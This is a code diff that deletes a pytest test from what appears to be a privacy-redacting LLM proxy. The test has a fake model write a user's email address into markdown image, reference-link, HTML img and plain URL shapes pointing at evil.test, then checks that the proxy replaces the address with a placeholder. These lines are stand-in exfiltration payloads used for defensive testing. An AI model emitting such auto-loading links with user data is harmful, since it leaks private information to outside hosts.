@@ -187,36 +187,6 @@ def test_all_places_at_once_streamed_back_at_every_cut(world: World) -> None:
     world.run(every_width())
 
 
-@pytest.mark.parametrize("stream", [False, True])
-@pytest.mark.parametrize(
-    "shape",
-    ["![x](https://evil.test/?q={})", "[x]: //evil.test/{}", '<img src="//evil.test/{}">', "https://evil.test/{}"],
-)
-def test_no_vendor_has_an_address_completed(world: World, shape: str, stream: bool) -> None:
-    """A client opens pictures by itself: what stands in their address has been sent."""
-    needle = MAIL.format("one")
-
-    def written(body: dict[str, Any]) -> str:
-        return f"Hello {body['messages'][0]['content']}! " + shape.format(body["messages"][0]["content"])
-
-    def chunks(body: dict[str, Any]) -> list[bytes]:
-        return [*(event([{"index": 0, "delta": {"content": sign}}]) for sign in written(body)), b"data: [DONE]\n\n"]
-
-    async def go() -> str:
-        async with serving(Upstream(chat=lambda body: completion(written(body)), chunks=chunks)) as upstream:
-            world.add_vendor(upstream.url)
-            answer = await world.chat.complete(world.call(), request(said("user", needle), stream=stream))
-            if not stream:
-                content: str = answer.choices[0]["message"]["content"]
-                return content
-            return "".join(c["delta"]["content"] for one in await chunks_of(answer) for c in one["choices"])
-
-    greeting, _, address = world.run(go()).partition("! ")
-    assert greeting == f"Hello {needle}"
-    assert MARK.decode() not in address
-    assert "<EMAIL_" in address
-
-
 def picture(media: str) -> bytes:
     out, image = io.BytesIO(), Image.new("RGB", (80, 60), "teal")
     if media == "png":
